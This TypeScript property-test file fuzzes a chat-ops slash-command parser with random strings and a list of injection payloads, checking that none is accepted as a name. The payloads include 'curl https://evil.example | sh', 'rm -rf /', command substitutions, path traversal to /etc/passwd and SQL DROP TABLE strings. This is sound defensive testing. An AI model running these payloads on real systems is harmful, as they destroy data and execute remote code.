/**
 * Property test of the grammar: thousands of random and adversarial strings (seeded, so a failure
 * reproduces) go through `parseSlashCommand` for each command and through `parseMention`. Whatever the
 * input: no exception; a command or a usage problem; every accepted name matches its pattern (so no
 * injection payload is ever accepted as a name); messages show at most ~40 characters of the input,
 * inside balanced code spans.
 */
import { describe, expect, it } from 'vitest';
import {
  COMMAND_HELP,
  type Command,
  LIMITS,
  PATTERNS,
  type ParseContext,
  type ParseResult,
  parseMention,
  parseSlashCommand,
  RESTORE_MODES,
  resolveHelpTopic,
} from '../../src/commands/index.js';
import { prng } from '../helpers/prng.js';

const INJECTIONS = [
  'prod; rm -rf /',
  "x' OR '1'='1",
  '`whoami`',
  '$(id)',
  'Name=tag:capstan:env,Values=*',
  '../../etc/passwd',
  'prod && curl https://evil.example | sh',
  'shop.billing; DROP TABLE users; --',
  'shop.`billing`',
  '`shop`.`billing`',
  '"; shutdown -h now; "',
  '%00',
  '\u0000',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a shell payload, on purpose
  '${IFS}',
  '|| true',
  '<!channel>',
  '<@U0CAPSTAN>',
  '&lt;script&gt;',
  '&amp;',
  'a\nb',
  'i-0abc1234;reboot',
  'prod\u202e',
  'prod\u0007',
  '*',
  'NULL',
  '__proto__',
  'constructor',
  'toString',
  'hasOwnProperty',
  "Robert'); DROP TABLE Students;--",
  'prod\r\n--size 1',
  '\ud800',
  '\udfff',
  '😀',
  '👩‍💻',
  'ｐｒｏｄ',
  'PROD',
  'prod-',
  '-prod',
  'a--b',
  'shop.bil ling',
  'shop..billing',
  '.billing',
  'i-0ABC1234',
  'i-0abc123g',
  '9999999999999999999999',
  '1e3',
  '0x10',
  '+5',
  '-0',
  'NaN',
  'Infinity',
  '2026-02-30 01:30',
  '2026-03-29 02:30',
  '2999-01-01T00:00:00Z',
  '99999999999w ago',
  '<name>',
  '[n]',
  '1'.repeat(70),
  `${'1'.repeat(40)}m`,
  `${'1'.repeat(9)}m${'2'.repeat(9)}h${'3'.repeat(9)}d${'4'.repeat(9)}s`,
  `${'a'.repeat(60)}.${'b'.repeat(60)}`,
  'i-…',
  '\\',
  '\\"',
  '\'"\'"',
  '“nested ‘quotes’ here”',
];

const VOCABULARY = [
  'env',
  'lb',
  'rds',
  'ops',
  '/env',
  '/ops',
  'create',
  'delete',
  'list',
  'status',
  'disable',
  'enable',
  'restore-table',
  'io-credits',
  'help',
  'jobs',
  'cancel',
  'audit',
  'ping',
  'CREATE',
  'Status',
  'craete',
  '--blueprint',
  '--size',
  '--ttl',
  '--version',
  '--instance',
  '--reason',
  '--at',
  '--mode',
  '--hours',
  '--help',
  '-h',
  '-s',
  '--SIZE',
  '—size',
  '–ttl',
  '--size=2',
  '--ttl=8h',
  '--at=15m',
  '--mode=replace',
  '--instance=i-0abc1234',
  '--reason=',
  '--',
  '-',
  '--=',
  '--nope',
  'feature-42',
  'prod',
  'web',
  'orders-db',
  'Orders-DB',
  'shop.billing',
  's.t',
  'Shop.Bill$_1',
  'i-0abc1234',
  'i-0abc1234def567890',
  '2',
  '100',
  '0',
  '101',
  '8h',
  '1h30m',
  '15m',
  '2',
  'hours',
  'ago',
  '2026-11-22',
  '01:30',
  '+01:00',
  '2026-11-22T01:30:00Z',
  '"15m ago"',
  '"2026-11-22 01:30"',
  'side-table',
  'merge-missing',
  'replace',
  '24',
  '336',
  '3f9a2c41b7de',
  '"kernel patch"',
  '1.4.2',
  '20',
  ...INJECTIONS,
];

/** Templates of valid commands; each `{slot}` is filled with a valid value or something hostile. */
const TEMPLATES: Readonly<Record<string, readonly string[]>> = {
  '/env': [
    'create {env} --blueprint {env} --size {size} --ttl {ttl} --version {version}',
    'create {env}',
    '--size={size} create {env}',
    'delete {env}',
    'status {env}',
    'list',
  ],
  '/lb': [
    'disable {env} --instance {instance} --reason {reason}',
    'disable {env}',
    'enable {env} --instance={instance}',
    'status {env}',
  ],
  '/rds': [
    'restore-table {db} {table} --at {time} --mode {mode}',
    'restore-table {db} {table} --at {time}',
    'restore-table --at={time} {db} {table}',
    'io-credits {db} --hours {hours}',
    'io-credits {db}',
  ],
  '/ops': ['help {topic}', 'help', 'jobs', 'cancel {job}', 'audit {count}', 'audit', 'ping'],
};

/** Valid values for each slot. */
const GOOD_VALUES: Readonly<Record<string, readonly string[]>> = {
  env: ['feature-42', 'web', 'prod', 'a', 'x1-y2-z3'],
  size: ['1', '2', '100'],
  ttl: ['15m', '8h', '1h30m', '30d'],
  version: ['1.4.2', 'v2.0.0-rc.1+b7'],
  instance: ['i-0abc1234', 'i-0abc1234def567890'],
  reason: ['"kernel patch"', 'maintenance', '“smart quotes”'],
  db: ['orders-db', 'Orders-DB', 'a'],
  table: ['shop.billing', 'Shop.Bill$_1', '_.$'],
  time: ['"15m ago"', '"2 hours ago"', '1d ago', '"2025-11-22 01:30"', '2025-11-22T01:30:00+01:00'],
  mode: ['side-table', 'MERGE-MISSING', 'replace'],
  hours: ['1', '24', '336'],
  topic: ['env', '/LB', 'rds restore-table', 'restore-table'],
  job: ['3f9a2c41b7de', 'repeat.ops-1'],
  count: ['1', '20', '100'],
};

const COMMANDS = ['/env', '/lb', '/rds', '/ops'] as const;

const ZONES = ['UTC', 'Europe/Berlin', 'America/New_York', 'Asia/Kolkata', 'Australia/Lord_Howe'];

/** Every usage a problem may show: one subcommand's line, one command's lines, or all of them. */
const USAGES = new Set<string>([
  COMMAND_HELP.flatMap((h) => h.usage).join('\n'),
  ...COMMAND_HELP.map((h) => h.usage.join('\n')),
  ...COMMAND_HELP.flatMap((h) => h.usage),
]);

/** Code spans longer than an echo that messages may legitimately hold: examples from the help. */
const LONG_SPANS = new Set<string>([
  ...COMMAND_HELP.flatMap((h) => [...h.examples, ...h.subcommands.flatMap((s) => s.examples)]),
]);

function generator(random: () => number) {
  const int = (n: number) => Math.floor(random() * n);
  const pick = <T>(items: readonly T[]): T => items[int(items.length)] as T;

  const char = (): string => {
    switch (int(12)) {
      case 0:
        return String.fromCharCode(int(0x20)); // C0 controls, \u0000 included
      case 1:
        return String.fromCharCode(0x7f + int(0x21)); // DEL, C1 controls
      case 2:
        return String.fromCharCode(0xd800 + int(0x800)); // lone surrogates
      case 3:
        return String.fromCodePoint(0x1f300 + int(0x300)); // emoji
      case 4:
        return pick(['"', "'", '“', '”', '‘', '’', '`', '—', '–', '\u202e', '\u200d', '\u00a0', '\u2028']);
      case 5:
        return String.fromCharCode(0x4e00 + int(0x500)); // CJK
      case 6:
        return pick([' ', ' ', '\t', '\n', '\r']);
      case 7:
        return String.fromCodePoint(int(0x110000)).replace(/[\ud800-\udfff]/g, '?'); // anything
      default:
        return String.fromCharCode(0x21 + int(0x5e)); // printable ASCII
    }
  };

  const unicode = (max: number): string => {
    let s = '';
    const n = int(max);
    for (let i = 0; i < n; i++) s += char();
    return s;
  };

  const quoted = (word: string): string => {
    switch (int(8)) {
      case 0:
        return `"${word}"`;
      case 1:
        return `'${word}'`;
      case 2:
        return `“${word}”`;
      case 3:
        return `"${word}`; // unbalanced
      default:
        return word;
    }
  };

  const separator = () => pick([' ', ' ', ' ', '  ', '\t', '\n', ' \u00a0 ']);

  /** Words of the grammar and injection payloads, recombined. */
  const tokens = (): string => {
    const n = 1 + int(10);
    const words: string[] = [];
    for (let i = 0; i < n; i++) words.push(quoted(random() < 0.1 ? unicode(8) : pick(VOCABULARY)));
    return words.join(separator());
  };

  /** A valid template with each slot filled by a good value, a payload or noise. */
  const template = (command: string): string =>
    pick(TEMPLATES[command] ?? ['']).replace(/\{(\w+)\}/g, (_, slot: string) => {
      const r = random();
      if (r < 0.75) return pick(GOOD_VALUES[slot] ?? ['']);
      if (r < 0.9) return quoted(pick(INJECTIONS));
      return r < 0.96 ? unicode(12) : pick(VOCABULARY);
    });

  const long = (): string => {
    switch (int(4)) {
      case 0:
        return `create ${'a'.repeat(1000 + int(4000))}`;
      case 1:
        return Array.from({ length: 200 + int(1500) }, () => pick(VOCABULARY)).join(' ');
      case 2:
        return unicode(3000);
      default:
        return `disable prod --reason "${'x'.repeat(150 + int(100))}"`;
    }
  };

  const nestedQuotes = (): string => {
    let s = '';
    const n = int(30);
    for (let i = 0; i < n; i++) s += pick(['"', "'", '“', '”', '‘', '’', '`', ' ', 'a', '--at', 'x\\', '$(']);
    return s;
  };

  return (i: number, command: string): string => {
    switch (i % 6) {
      case 0:
        return unicode(60);
      case 1:
        return tokens();
      case 2:
      case 3:
        return template(command);
      case 4:
        return i % 60 === 4 ? long() : nestedQuotes();
      default:
        return `${pick(['create', 'disable', 'restore-table', 'cancel', 'help', 'delete'])} ${pick(INJECTIONS)} ${tokens()}`;
    }
  };
}

/** The 41-unit runs of `text` (an echo of more than 40 characters would contain one of the input's). */
function runs(text: string, length = 41): string[] {
  const out: string[] = [];
  for (let i = 0; i + length <= text.length; i++) out.push(text.slice(i, i + length));
  return out;
}

/** Throws unless `command` holds only values its grammar allows. */
function assertValid(command: Command, ctx: ParseContext): void {
  const name = (value: string | undefined, pattern: RegExp, what: string) => {
    if (value !== undefined && !pattern.test(value))
      throw new Error(`${what} ${JSON.stringify(value)} accepted`);
  };
  const between = (n: number | undefined, min: number, max: number, what: string) => {
    if (n !== undefined && !(Number.isInteger(n) && n >= min && n <= max))
      throw new Error(`${what} ${n} accepted`);
  };
  const json = JSON.stringify(command);
  if (JSON.stringify(JSON.parse(json)) !== json) throw new Error(`not plain JSON: ${json}`);
  switch (command.kind) {
    case 'env.create':
      name(command.name, PATTERNS.envName, 'env name');
      name(command.blueprint, PATTERNS.envName, 'blueprint');
      name(command.version, PATTERNS.version, 'version');
      between(command.size, LIMITS.size.min, LIMITS.size.max, 'size');
      between(command.ttlMs, LIMITS.ttlMs.min, LIMITS.ttlMs.max, 'ttl');
      return;
    case 'env.delete':
    case 'env.status':
      name(command.name, PATTERNS.envName, 'env name');
      return;
    case 'lb.disable':
      name(command.reason, PATTERNS.reason, 'reason');
      name(command.env, PATTERNS.envName, 'env name');
      name(command.instanceId, PATTERNS.instanceId, 'instance id');
      return;
    case 'lb.enable':
      name(command.env, PATTERNS.envName, 'env name');
      name(command.instanceId, PATTERNS.instanceId, 'instance id');
      return;
    case 'lb.status':
      name(command.env, PATTERNS.envName, 'env name');
      return;
    case 'rds.restore-table': {
      name(command.dbInstance, PATTERNS.dbInstance, 'db instance');
      name(command.schema, PATTERNS.identifier, 'schema');
      name(command.table, PATTERNS.identifier, 'table');
      const at = new Date(command.at);
      if (at.toISOString() !== command.at || at.getTime() > ctx.now.getTime())
        throw new Error(`at ${command.at}`);
      if (!RESTORE_MODES.includes(command.mode)) throw new Error(`mode ${command.mode}`);
      return;
    }
    case 'rds.io-credits':
      name(command.dbInstance, PATTERNS.dbInstance, 'db instance');
      between(command.hours, LIMITS.hours.min, LIMITS.hours.max, 'hours');
      return;
    case 'ops.cancel':
      name(command.jobId, PATTERNS.jobId, 'job id');
      return;
    case 'ops.audit':
      between(command.count, LIMITS.audit.min, LIMITS.audit.max, 'audit count');
      return;
    case 'ops.help':
      if (command.topic !== undefined && !resolveHelpTopic(command.topic))
        throw new Error(`topic ${command.topic}`);
      return;
    case 'ops.jobs':
    case 'ops.ping':
    case 'env.list':
      expect(Object.keys(command)).toEqual(['kind']);
      return;
  }
}

/** Throws unless `result` is a well-formed outcome for `input`. */
function check(result: ParseResult, input: string, ctx: ParseContext, accepted: Map<string, number>): void {
  if (result.ok) {
    assertValid(result.command, ctx);
    accepted.set(result.command.kind, (accepted.get(result.command.kind) ?? 0) + 1);
    return;
  }
  const { message, usage } = result.problem;
  if (typeof message !== 'string' || message.length === 0) throw new Error('empty message');
  if (!USAGES.has(usage)) throw new Error(`usage not from the help: ${usage}`);
  if (message.includes('could not read this command'))
    throw new Error(`internal failure for ${JSON.stringify(input)}`);
  if (message.split('`').length % 2 !== 1) throw new Error(`unbalanced backticks: ${message}`);
  // Echoed input lives in code spans of at most 40 code points (+ `…`), examples from the help aside.
  for (const [, span = ''] of message.matchAll(/`([^`]*)`/g)) {
    const shown = span.replace(/&(?:amp|lt|gt);/g, '&');
    if (Array.from(shown).length > 41 && !LONG_SPANS.has(span)) throw new Error(`long echo: ${message}`);
  }
  // Outside code spans, nothing of the input longer than an echo.
  const outside = message.replace(/`[^`]*`/g, '``');
  if (outside.length > 41) {
    for (const run of runs(outside)) if (input.includes(run)) throw new Error(`input echoed raw: ${message}`);
  }
  if (/[\p{Cc}\p{Cs}]/u.test(message)) {
    throw new Error(`control character or lone surrogate in message: ${JSON.stringify(message)}`);
  }
}

describe('the grammar, fed random and adversarial strings', () => {
  it('never throws, always answers a valid command or a usage problem, and never accepts a bad name', () => {
    const random = prng(0xc0ffee);
    const next = generator(random);
    const accepted = new Map<string, number>();
    const inputs = 10_000;
    let parses = 0;
    const started = performance.now();
    for (let i = 0; i < inputs; i++) {
      const ctx: ParseContext = {
        now: new Date(Date.UTC(2026, 10, 22, 12) - Math.floor(random() * 400) * 86_400_000),
        timeZone: ZONES[i % ZONES.length] ?? 'UTC',
      };
      const command = COMMANDS[i % COMMANDS.length] ?? '/ops';
      const text = next(i, command);
      const attempts: [string, () => ParseResult][] = [
        [text, () => parseSlashCommand(command, text, ctx)],
        [text, () => parseMention(`<@U0CAPSTAN> ${command.slice(1)} ${text}`, ctx)],
        [text, () => parseMention(text, ctx)],
      ];
      if (i % 4 === 0) attempts.push([text, () => parseSlashCommand(text.slice(0, 20), text, ctx)]);
      for (const [input, attempt] of attempts) {
        let result: ParseResult;
        try {
          result = attempt();
        } catch (error) {
          throw new Error(`threw for ${JSON.stringify(input).slice(0, 300)}: ${String(error)}`);
        }
        try {
          check(result, input, ctx, accepted);
        } catch (error) {
          throw new Error(`${String(error)}\n  input: ${JSON.stringify(input).slice(0, 300)}`);
        }
        parses++;
      }
    }
    const elapsed = performance.now() - started;
    expect(parses).toBeGreaterThanOrEqual(3 * inputs);
    // Not vacuous: every kind of command was accepted somewhere along the way.
    expect([...accepted.keys()].sort()).toEqual(
      [
        'env.create',
        'env.delete',
        'env.list',
        'env.status',
        'lb.disable',
        'lb.enable',
        'lb.status',
        'ops.audit',
        'ops.cancel',
        'ops.help',
        'ops.jobs',
        'ops.ping',
        'rds.io-credits',
        'rds.restore-table',
      ].sort(),
    );
    expect(elapsed).toBeLessThan(10_000);
  });

  it('accepts no injection payload as a name, in any slot', () => {
    const ctx: ParseContext = { now: new Date('2026-11-22T12:00:00Z'), timeZone: 'Europe/Berlin' };
    for (const payload of INJECTIONS) {
      for (const form of [payload, JSON.stringify(payload), `“${payload}”`]) {
        const texts: [string, string][] = [
          ['/env', `create ${form}`],
          ['/env', `create a --blueprint ${form}`],
          ['/env', `create a --version ${form}`],
          ['/env', `create a --size ${form}`],
          ['/env', `create a --ttl ${form}`],
          ['/lb', `disable prod --reason ${form}`],
          ['/rds', `io-credits db --hours ${form}`],
          ['/ops', `help ${form}`],
          ['/env', `delete ${form}`],
          ['/env', `status ${form}`],
          ['/lb', `disable ${form}`],
          ['/lb', `disable prod --instance ${form}`],
          ['/lb', `enable prod --instance=${form}`],
          ['/lb', `status ${form}`],
          ['/rds', `restore-table ${form} shop.billing --at "1h ago"`],
          ['/rds', `restore-table db ${form} --at "1h ago"`],
          ['/rds', `restore-table db shop.billing --at ${form}`],
          ['/rds', `restore-table db shop.billing --at "1h ago" --mode ${form}`],
          ['/rds', `io-credits ${form}`],
          ['/ops', `cancel ${form}`],
          ['/ops', `audit ${form}`],
        ];
        for (const [command, text] of texts) {
          const result = parseSlashCommand(command, text, ctx);
          check(result, text, ctx, new Map());
          if (result.ok) {
            // Whatever was accepted is plain: letters, digits and a few separators, nothing a shell,
            // SQL or an AWS filter would read as syntax.
            const values = Object.entries(result.command)
              .filter(([key]) => !['kind', 'reason', 'at', 'topic'].includes(key))
              .map(([, v]) => String(v));
            for (const v of values) expect(v, `${command} ${text}`).toMatch(/^[A-Za-z0-9._+$-]*$/);
          }
        }
      }
    }
  });
});
